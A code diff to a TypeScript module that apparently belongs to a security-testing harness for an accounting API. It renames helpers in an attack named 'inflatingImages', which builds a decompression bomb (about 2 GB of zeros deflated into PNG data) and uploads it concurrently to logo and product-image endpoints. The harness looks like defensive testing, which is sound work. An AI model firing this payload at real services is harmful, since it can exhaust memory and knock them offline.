@@ -3,9 +3,9 @@ import { createDeflate } from 'node:zlib';
 import { Boekstaaf } from 'boekstaaf';
 import { buffer } from 'node:stream/consumers';
 import { Readable } from 'node:stream';
-import { pngSaying } from '../images.ts';
-import { emptyCompany, productOver } from '../world.ts';
-import { together, type Attack } from './attack.ts';
+import { createPng } from '../images.ts';
+import { emptyCompany, createPricedProduct } from '../world.ts';
+import { runConcurrently, type Attack } from './attack.ts';
 
 const MEGABYTE = 1_000_000;
 const INFLATED_MEGABYTES = 2_000;
@@ -24,24 +24,24 @@ export const inflatingImages: Attack = {
   async run(target) {
     const api = new Boekstaaf({ baseUrl: target.baseUrl, apiKey: target.key });
     const { factuur_pdf_template_id } = await emptyCompany(api);
-    const { id } = await productOver(api, 10);
+    const { id } = await createPricedProduct(api, 10);
     const places = [
       `/api2/pdf_templates/${String(factuur_pdf_template_id)}/logo`,
       `/api2/producten/${String(id)}/afbeelding`,
     ];
-    const pixels = await manyZeros();
+    const pixels = await compressZeros();
     const put = (path: string, body: Buffer) => () =>
       target.ask('PUT', path, { body, headers: { 'content-type': 'image/png' } });
     const works = Array.from({ length: ROUND_COUNT }, () =>
-      SIZES.flatMap((size) => places.map((path) => put(path, pngSaying(size, pixels)))),
+      SIZES.flatMap((size) => places.map((path) => put(path, createPng(size, pixels)))),
     ).flat();
 
-    return { statuses: await together(works, CONCURRENT_REQUESTS) };
+    return { statuses: await runConcurrently(works, CONCURRENT_REQUESTS) };
   },
 };
 
 /** Zeros, compressed, without having all of them at once. */
-async function manyZeros(): Promise<Buffer> {
+async function compressZeros(): Promise<Buffer> {
   const chunk = Buffer.alloc(MEGABYTE);
   const zeros = Readable.from(Array.from({ length: INFLATED_MEGABYTES }, () => chunk));
   return buffer(zeros.pipe(createDeflate({ level: 9 })));
